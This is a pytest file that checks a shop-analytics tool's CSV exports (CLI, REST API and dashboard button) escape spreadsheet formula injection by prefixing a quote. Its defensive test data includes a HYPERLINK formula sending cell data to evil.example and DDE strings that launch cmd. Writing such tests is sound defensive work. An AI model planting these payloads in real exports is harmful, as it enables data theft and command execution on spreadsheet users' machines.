"""Safe CSV everywhere (issue #11, item 12): no export writes a cell a spreadsheet would run as a formula.

A store whose product name, user id and a quarantined value are formulas is imported through the
pipeline like any data; then every CSV export is read back with Python's csv module: the CLI's
``--format csv`` and files (metrics, rfm --list/--export, segment export, quarantine list/export,
funnel --dropped-at --out), the REST API's ``format=csv`` answers, and the dashboard's CSV button in
Chromium. Each hostile cell must come back as ``'`` + the original text (OWASP's advice), and no
cell anywhere may start with ``= + - @``, a tab or a CR unless it is a plain number.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

import shoplens
from api_server import PASSWORD, ApiServer
from csv_files import write_csv
from shoplens.csv_out import csv_text, safe_cell
from shoplens.ingest.pipeline import import_files
from shoplens.server.accounts import add_user

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SUM = "@SUM(A1:A9)"
DDE = "-2+3+cmd|' /C calc'!A0"
USER = "=cmd|' /C calc'!A0"
BAD_AMOUNT = "=1+2"  # quarantined: not a number
ENV = {"SHOPLENS_LANG": "en", "COLUMNS": "200", "SHOPLENS_LOCK_WAIT": "5"}
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
DANGEROUS_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


@pytest.fixture(scope="module")
def evil_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Store ``evil`` (USD, UTC): p1 named LINK bought by user USER on 2026-03-02, u2 bought p2 (named SUM) on
    2026-02-20 and carted it again on 2026-03-03 without buying; one order line quarantined for its amount."""
    tmp = tmp_path_factory.mktemp("evil")
    files = {
        "products": write_csv(tmp / "products.csv", "product_id,name,category,list_price,currency", [
            ("p1", LINK, "bags", "100", "USD"), ("p2", SUM, "bags", "50", "USD"), ("p3", DDE, "shoes", "20", "USD")]),
        "events": write_csv(tmp / "events.csv", "event_id,ts,user_id,event,product_id,channel", [
            ("e1", "2026-03-02T10:00:00Z", USER, "product_view", "p1", "direct"),
            ("e2", "2026-03-02T10:01:00Z", USER, "add_to_cart", "p1", "direct"),
            ("e3", "2026-03-02T10:02:00Z", USER, "purchase", "p1", "direct"),
            ("e4", "2026-03-03T10:00:00Z", "u2", "product_view", "p2", "direct"),
            ("e5", "2026-03-03T10:01:00Z", "u2", "add_to_cart", "p2", "direct")]),
        "orders": write_csv(tmp / "orders.csv", "order_id,user_id,created_ts,paid_ts,status,gross_amount,channel", [
            ("o1", USER, "2026-03-02T10:02:00Z", "2026-03-02T10:02:00Z", "paid", "100", "direct"),
            ("o2", "u2", "2026-02-20T10:00:00Z", "2026-02-20T10:00:00Z", "paid", "50", "direct"),
            ("o3", "u3", "2026-03-04T10:00:00Z", "2026-03-04T10:00:00Z", "paid", BAD_AMOUNT, "direct")]),
        "order_items": write_csv(tmp / "order_items.csv", "order_id,line_no,product_id,quantity,unit_price", [
            ("o1", "1", "p1", "1", "100"), ("o2", "1", "p2", "1", "50")]),
    }
    path = tmp / "evil.duckdb"
    with shoplens.connect(str(path)) as wh:
        for table, file in files.items():
            summary = import_files(wh, [file], table=table, store="evil", currency="USD", timezone="UTC")
            assert summary.files[0].quarantined == (1 if table == "orders" else 0), summary.examples
        shoplens.save_segment(wh, "buyers", "orders>=1", "")
        add_user(wh, "root", PASSWORD, "admin", ["*"])
    return path


def cli(db: Path, *args: str) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run([sys.executable, "-m", "shoplens", "--db", str(db), *args], capture_output=True, text=True,
                          timeout=120, env={**os.environ, **ENV})
    assert proc.returncode == 0, (args, proc.stderr)
    return proc


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_safe(rows: list[list[str]], *hostile: str) -> None:
    """No cell starts like a formula unless it is a plain number; each hostile text is there, quoted."""
    cells = [c for r in rows for c in r]
    risky = [c for c in cells if c.startswith(DANGEROUS_START) and not PLAIN_NUMBER.fullmatch(c)]
    assert not risky, f"cells a spreadsheet would run: {risky}"
    for text in hostile:
        assert "'" + text in cells, f"{text!r} is not in the export as '{text}: {rows}"


# ---- the rule ------------------------------------------------------------------------------------------

TRICKY: list[tuple[object, object]] = [  # (value, the cell written); reasons in src/shoplens/csv_out.py
    (LINK, "'" + LINK), (SUM, "'" + SUM), (DDE, "'" + DDE), ("+cmd", "'+cmd"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals
    ("-", "'-"), ("+", "'+"), ("-1+1", "'-1+1"), ("-0x1F", "'-0x1F"), ("-5,2", "'-5,2"), ("-\u0663", "'-\u0663"),
    ("-5", "-5"), ("+1.5", "+1.5"), ("-2e3", "-2e3"), ("-.5", "-.5"),  # text that is a plain number
    ("a=b", "a=b"), (" =1", " =1"), ("", ""), ("普通", "普通"), ("'=x", "'=x"),
    (-5.2, -5.2), (-3, -3), (0, 0), (None, ""), (float("nan"), ""),  # numbers stay numbers
]


@pytest.mark.parametrize(("value", "cell"), TRICKY)
def test_rule_on_tricky_cells(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_negative_number_is_written_as_a_number() -> None:
    rows = read_csv(csv_text(["name", "change"], [["x", -0.25], ["-y", -1]]))
    assert rows == [["name", "change"], ["x", "-0.25"], ["'-y", "-1"]]
    assert float(rows[1][1]) == -0.25


# ---- the CLI -------------------------------------------------------------------------------------------


def test_cli_metrics_csv(evil_db: Path) -> None:
    rows = read_csv(cli(evil_db, "metrics", "gmv,orders", "--by", "product", "--from", "2026-03-01", "--to",
                        "2026-03-07", "--format", "csv").stdout)
    assert rows[0][:3] == ["product", "product_name", "gmv"] and rows[1][:3] == ["p1", "'" + LINK, "100.0"]
    assert_safe(rows, LINK)
    # a real negative number stays a number: 2026-03-03..12 sold nothing, the 10 days before sold 100
    rows = read_csv(cli(evil_db, "metrics", "gmv", "--from", "2026-03-03", "--to", "2026-03-12", "--compare",
                        "previous", "--format", "csv").stdout)
    change = rows[0].index("gmv__previous_change")
    assert float(rows[1][change]) == -1.0 and rows[1][change].startswith("-")


def test_cli_rfm_list_and_export(evil_db: Path, tmp_path: Path) -> None:
    assert_safe(read_csv(cli(evil_db, "rfm", "--list", "all", "--format", "csv").stdout), USER)
    out = tmp_path / "rfm.csv"
    cli(evil_db, "rfm", "--list", "all", "--export", str(out))
    rows = read_csv(out.read_text(encoding="utf-8"))
    assert_safe(rows, USER)
    assert {r[1] for r in rows[1:]} == {"'" + USER, "u2"}


def test_cli_segment_export(evil_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "members.csv"
    cli(evil_db, "segment", "export", "buyers", "--out", str(out))
    rows = read_csv(out.read_text(encoding="utf-8"))
    assert rows == [["store_id", "user_id"], ["evil", "'" + USER], ["evil", "u2"]]
    assert read_csv(cli(evil_db, "segment", "export", "buyers").stdout) == rows


def test_cli_quarantine_list_and_export(evil_db: Path, tmp_path: Path) -> None:
    listed = read_csv(cli(evil_db, "quarantine", "list", "--format", "csv").stdout)
    assert_safe(listed, BAD_AMOUNT)
    out = tmp_path / "bad.csv"
    cli(evil_db, "quarantine", "export", str(out))
    rows = read_csv(out.read_text(encoding="utf-8"))
    assert_safe(rows, BAD_AMOUNT)
    raw = json.loads(rows[1][rows[0].index("raw")])  # the whole source row stays readable JSON
    assert raw["gross_amount"] == BAD_AMOUNT


def test_cli_funnel_dropped_and_timeline(evil_db: Path, tmp_path: Path) -> None:
    # nobody favourited: both viewers dropped at step 2 of product_view -> favorite, USER among them
    out = tmp_path / "lost.csv"
    cli(evil_db, "funnel", "--steps", "product_view,favorite", "--dropped-at", "2", "--out", str(out))
    rows = read_csv(out.read_text(encoding="utf-8"))
    assert_safe(rows, USER)
    assert {r[0] for r in rows[1:]} == {"'" + USER, "u2"}
    assert read_csv(cli(evil_db, "funnel", "--steps", "product_view,favorite", "--dropped-at", "2",
                        "--format", "csv").stdout) == rows
    timeline = read_csv(cli(evil_db, "user", USER, "--format", "csv").stdout)
    assert_safe(timeline)
    assert any(LINK in c for r in timeline for c in r), timeline  # the product name, inside a description


# ---- the REST API --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(evil_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApiServer]:
    path = tmp_path_factory.mktemp("evil_api") / "evil.duckdb"
    shutil.copy(evil_db, path)
    srv = ApiServer(path)
    yield srv
    srv.stop()


@pytest.mark.parametrize(("path", "params", "hostile"), [
    ("/api/v1/metrics", {"metrics": "gmv", "by": "product", "from": "2026-03-01", "to": "2026-03-07"}, LINK),
    ("/api/v1/rfm/customers", {}, USER),
    ("/api/v1/segments/buyers/members", {}, USER),
    ("/api/v1/quarantine", {}, BAD_AMOUNT),
    ("/api/v1/quarantine/export", {}, BAD_AMOUNT),
])
def test_api_csv_answers(server: ApiServer, path: str, params: dict[str, str], hostile: str | None) -> None:
    with server.client("root") as client:
        r = client.get(path, params={**params, "format": "csv"})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    rows = read_csv(r.text)
    assert len(rows) > 1, rows
    assert_safe(rows, *([hostile] if hostile else []))


def test_api_dropped_users_with_a_hostile_id(server: ApiServer) -> None:
    """Nobody favourited: USER and u2 both dropped at step 2 of a view -> favorite funnel."""
    with server.client("root") as client:
        r = client.get("/api/v1/funnel/dropped", params={"steps": "product_view,favorite", "step": "2",
                                                         "format": "csv"})
    assert r.status_code == 200, r.text
    rows = read_csv(r.text)
    assert {row[0] for row in rows[1:]} == {"'" + USER, "u2"}
    assert_safe(rows, USER)


# ---- the dashboard (Chromium) --------------------------------------------------------------------------

JS_CASES = [v for v, _ in TRICKY if not isinstance(v, float) or v == v] + ["a,b", 'say "hi"', "x\ny", 12.5, -7]


def _browser():
    from test_dashboard_browser import launched_chromium

    return launched_chromium()


def test_js_and_python_rules_agree() -> None:
    """server/dashboard/static/csv.js gives the same cells, and the same CSV text, as shoplens.csv_out."""
    source = (Path(shoplens.__file__).parent / "server/dashboard/static/csv.js").read_bytes()
    url = "data:text/javascript;base64," + base64.b64encode(source).decode()
    with _browser() as browser:
        page = browser.new_page()
        got = page.evaluate("""async ([url, cases]) => {
            const m = await import(url);
            return { cells: cases.map((c) => m.safeCell(c)), text: m.toCsv(["h", "=h"], cases.map((c) => [c, "x"])) };
        }""", [url, JS_CASES])
    want = [safe_cell(v) for v in JS_CASES]
    assert got["cells"] == [str(w) if isinstance(w, int | float) else w for w in want]
    assert got["text"] == csv_text(["h", "=h"], [[c, "x"] for c in JS_CASES])


def test_dashboard_csv_button(server: ApiServer) -> None:
    """The products page's CSV button downloads the product names quoted, like the server's exports."""
    from test_dashboard_browser import TIMEOUT_MS, near

    with _browser() as browser:
        context = browser.new_context(accept_downloads=True)
        context.set_default_timeout(TIMEOUT_MS)
        page = context.new_page()
        page.goto(server.url + "/")
        page.fill("#login-username", "root")
        page.fill("#login-password", PASSWORD)
        page.click("#login-submit")
        page.locator("#app").wait_for(state="visible")
        page.click('a[data-page="products"]')
        page.locator('#page[data-page="products"][data-ready="true"]').wait_for(state="attached")
        table = page.locator("#product-table")
        assert LINK in table.inner_text()  # shown as it is on the page
        with page.expect_download() as info:
            near(table, "button.export-csv").click()
        rows = read_csv(Path(info.value.path()).read_text(encoding="utf-8"))
        context.close()
    assert_safe(rows, LINK)
    assert rows[1][:2] == ["p1", "'" + LINK]
